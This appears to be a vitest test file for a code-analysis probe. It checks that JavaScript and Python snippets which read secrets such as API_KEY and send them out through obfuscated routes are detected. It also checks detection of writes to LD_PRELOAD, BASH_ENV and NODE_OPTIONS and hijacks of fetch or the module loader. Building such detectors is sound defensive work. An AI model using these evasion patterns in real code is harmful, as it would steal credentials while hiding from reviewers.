/** Ways of saying the same thing that hide it from who reads text: each row must reach the probe with the secret or the text. */
import { describe, expect, test } from 'vitest';
import { observeFiles } from './observe-files.ts';
import { expectSent, observed, type Row } from './probe.ts';

const key = 'process.env.API_KEY';
const secret = '<env-secret API_KEY';

const javascript: readonly Row[] = [
  ['a Proxy without traps', `const e = new Proxy(process.env, {}); send(e.API_KEY)`, secret],
  [
    'a Proxy whose trap reads',
    `const e = new Proxy({}, { get: (_, name) => process.env[name] }); send(e.API_KEY)`,
    secret,
  ],
  [
    'a Proxy that is called',
    `const f = new Proxy(send, { apply: (target, self, args) => target(...args) }); f(${key})`,
    secret,
  ],
  ['a copy of a module', `const os = Object.assign({}, { env: process.env }); send(os.env.API_KEY)`, secret],
  ['a copy of the environment', `const e = { ...process.env }; send(e.API_KEY)`, secret],
  ['a getter of a class', `class A { get k() { return ${key}; } } send(new A().k)`, secret],
  ['a static getter', `class A { static get k() { return ${key}; } } send(A.k)`, secret],
  ['a method under a Symbol', `const s = Symbol('s'); const o = { [s]() { return ${key}; } }; send(o[s]())`, secret],
  [
    'an iterator of its own',
    `const o = { *[Symbol.iterator]() { yield ${key}; } }; for (const v of o) send(v)`,
    secret,
  ],
  ['a conversion of its own', `const o = { toString() { return ${key}; } }; send(\`\${o}\`)`, secret],
  [
    'a tagged template',
    `const tag = (parts, ...values) => parts[0] + values[0]; send(tag\`x\${${key}}\`)`,
    ['x\u{FFFC}', secret],
  ],
  ['a tag that ends in an API', 'const f = String.raw; send(f`a${"b"}`)', 'ab'],
  ['a generator step by step', `function* g() { yield ${key}; } send(g().next().value)`, secret],
  ['with', `with (process) { send(env.API_KEY); }`, secret],
  ['a decorator of a method', `const wrap = (fn) => (...a) => fn(...a); const s = wrap(send); s(${key})`, secret],
  ['Reflect', `Reflect.apply(send, null, [Reflect.get(process.env, 'API_KEY')])`, secret],
  ['entries, filtered', `send(Object.entries(process.env).filter(([k]) => /KEY/.test(k)))`, '<env-all process.env'],
  [
    'entries, made an object again',
    `send(Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith('A'))))`,
    '<env-all process.env',
  ],
  [
    'keys, reduced',
    `send(Object.keys(process.env).reduce((all, k) => all + process.env[k], ''))`,
    '<env-all process.env',
  ],
  [
    'a name that is looked for',
    `const k = Object.keys(globalThis).find((n) => n === 'x') || 'fetch'; globalThis[k]('https://probe.test/', { body: 'found' })`,
    'found',
  ],
  ['an optional call', `const o = { s: send }; o?.s?.(${key})`, secret],
  ['a comma', `(0, send)((1, ${key}))`, secret],
  ['a label and a switch', `x: switch (typeof send) { case 'function': send(${key}); break x; }`, secret],
  ['a default parameter', `((v = ${key}) => send(v))()`, secret],
  ['a map of functions', `new Map([['s', send]]).get('s')(${key})`, secret],
  [
    'an event',
    `const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('x', (v) => send(v)); e.emit('x', ${key})`,
    secret,
  ],
  ['a WeakMap', `const w = new WeakMap(); const k = {}; w.set(k, ${key}); send(w.get(k))`, secret],
  ['structuredClone', `send(structuredClone({ k: ${key} }).k)`, secret],
  [
    'a counter in a function that is called later',
    `const d = (l) => { let o = ''; for (let i = 0; i < l.length; i++) o += String.fromCharCode(l[i] ^ 1); return o; }; exports.f = () => send(d([105, 104]))`,
    'hi',
  ],
];

const pyKey = "os.environ['API_KEY']";
const python: readonly Row[] = [
  [
    'partial with a keyword',
    `import os\nfrom functools import partial\npartial(requests.post, 'https://probe.test/', data=${pyKey})()`,
    secret,
  ],
  ['attrgetter', `import os\nfrom operator import attrgetter\nsend(attrgetter('environ')(os)['API_KEY'])`, secret],
  ['attrgetter of a path', `import sys, os\nfrom operator import attrgetter\nsend(attrgetter('path.sep')(os))`, '/'],
  [
    'methodcaller',
    `import os\nfrom operator import methodcaller\nsend(methodcaller('get', 'API_KEY')(os.environ))`,
    secret,
  ],
  ['itemgetter', `import os\nfrom operator import itemgetter\nsend(itemgetter('API_KEY')(os.environ))`, secret],
  ['sys.modules', `import os, sys\nsend(sys.modules['os'].environ['API_KEY'])`, secret],
  ['the dictionary of a module', `import os\nsend(os.__dict__['environ']['API_KEY'])`, secret],
  [
    'the dictionary of builtins',
    `import builtins\nsend(builtins.__dict__['__import__']('os').environ['API_KEY'])`,
    secret,
  ],
  ['vars', `import os\nsend(vars(os)['environ']['API_KEY'])`, secret],
  [
    'a metaclass',
    `import os\nclass M(type):\n    def __new__(mcls, name, bases, ns):\n        send(${pyKey})\n        return super().__new__(mcls, name, bases, ns)\nclass A(metaclass=M):\n    pass`,
    secret,
  ],
  [
    '__init_subclass__',
    `import os\nclass B:\n    def __init_subclass__(cls):\n        send(${pyKey})\nclass C(B):\n    pass`,
    secret,
  ],
  [
    'a context manager',
    `import os\nclass C:\n    def __enter__(self): return ${pyKey}\n    def __exit__(self, *a): pass\nwith C() as k: send(k)`,
    secret,
  ],
  [
    'what a context manager does at its end',
    `import os\nclass C:\n    def __enter__(self): return self\n    def __exit__(self, *a): send(${pyKey})\nwith C(): pass`,
    secret,
  ],
  [
    'contextlib',
    `import os\nfrom contextlib import contextmanager\n@contextmanager\ndef c():\n    yield ${pyKey}\nwith c() as k: send(k)`,
    secret,
  ],
  ['a property', `import os\nclass A:\n    @property\n    def k(self): return ${pyKey}\nsend(A().k)`, secret],
  [
    '__getattr__',
    `import os\nclass A:\n    def __getattr__(self, name): return os.environ[name]\nsend(A().API_KEY)`,
    secret,
  ],
  [
    '__getitem__',
    `import os\nclass A:\n    def __getitem__(self, name): return os.environ[name]\nsend(A()['API_KEY'])`,
    secret,
  ],
  ['__call__', `import os\nclass A:\n    def __call__(self): return ${pyKey}\nsend(A()())`, secret],
  [
    'a decorator',
    `import os\ndef d(f):\n    def w(): return f(${pyKey})\n    return w\n@d\ndef g(v): send(v)\ng()`,
    secret,
  ],
  ['a decorator that runs at once', `import os\ndef now(f): return f()\n@now\ndef g(): send(${pyKey})`, secret],
  [
    'an operator on a class',
    `import os\nclass A:\n    def __add__(self, other): return ${pyKey}\nsend(A() + 1)`,
    secret,
  ],
  ['map and a lambda', `import os\nlist(map(lambda k: send(os.environ[k]), ['API_KEY']))`, secret],
  ['a walrus in a comprehension', `import os\n[send(v) for k in ['API_KEY'] if (v := os.environ[k])]`, secret],
  [
    'exec with a dictionary',
    `import os\nns = {'send': send, 'os': os}\nexec("send(os.environ['API_KEY'])", ns)`,
    secret,
  ],
  ['reduce', `import os\nfrom functools import reduce\nsend(reduce(getattr, ['environ'], os)['API_KEY'])`, secret],
  [
    'a generator over the environment',
    `import os\ndef g(): yield from os.environ.items()\nsend(dict(g()))`,
    '<env-all os.environ',
  ],
  [
    'a request that is given its body',
    `import os, urllib.request\nr = urllib.request.Request('https://x.test/')\nr.data = ${pyKey}\nsend(r)`,
    ['https://x.test/', secret],
  ],
  [
    'comprehension over the environment',
    `import os\nsend({k: v for k, v in os.environ.items() if 'KEY' in k})`,
    '<env-all os.environ',
  ],
];

describe('JavaScript', () => {
  test.each(javascript)('%s', (_what, source, expected) => expectSent(source, 'js', expected));
});

describe('Python', () => {
  test.each(python)('%s', (_what, source, expected) => expectSent(source, 'py', expected));
});

test.each([
  ['searchParams.set', `const u = new URL('https://probe.test/'); u.searchParams.set('k', ${key}); fetch(u)`],
  [
    'searchParams.append, as a text',
    `const u = new URL('https://probe.test/'); u.searchParams.append('k', ${key}); fetch(u.toString())`,
  ],
  [
    'a part of an address that is set',
    `const u = new URL('https://probe.test/'); u.search = '?k=' + ${key}; fetch(u.href)`,
  ],
  ['URLSearchParams', `const p = new URLSearchParams({ k: ${key} }); fetch('https://probe.test/?' + p)`],
])('an address made by %s carries what was put into it', async (_what, source) => {
  const { facts } = await observed(source, 'js');
  expect(facts.flows.map(({ source: { name }, sink }) => `${name} ${sink.api}`)).toContain('API_KEY fetch');
});

test.each([
  [
    'an assignment',
    { 'main.py': "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n" },
    'env-write LD_PRELOAD /tmp/x.so',
  ],
  [
    'setdefault',
    { 'main.py': "import os\nos.environ.setdefault('BASH_ENV', '/tmp/x')\n" },
    'env-write BASH_ENV /tmp/x',
  ],
  ['update', { 'main.py': "import os\nos.environ.update({'A_B': 'c'}, D='e')\n" }, 'env-write A_B c, env-write D e'],
  [
    'JavaScript',
    { 'main.js': "const { env } = process; env['NODE_' + 'OPTIONS'] = '--require ./x.js';" },
    'env-write NODE_OPTIONS --require ./x.js',
  ],
  ['an API taken over', { 'main.js': 'window.fetch = (...a) => 1;' }, 'hook-global fetch '],
  [
    'the loader taken over',
    { 'main.js': "const Module = require('module'); Module._load = function () {};" },
    'hook-global module._load ',
  ],
  [
    'a prototype taken over',
    { 'main.js': 'XMLHttpRequest.prototype.send = function () {};' },
    'hook-global XMLHttpRequest.prototype.send ',
  ],
])('what code sets outside itself is a fact: %s', async (_what, files, expected) => {
  const { facts } = await observeFiles(files as Record<string, string>, Object.keys(files)[0]);
  const seen = facts.calls
    .filter(({ effects }) => effects.some((effect) => effect === 'env-write' || effect === 'hook-global'))
    .map(({ effects, args }) => `${effects[0]} ${args.name?.texts[0]} ${args.content?.texts[0] ?? ''}`);
  expect(seen.join(', ')).toBe(expected);
});
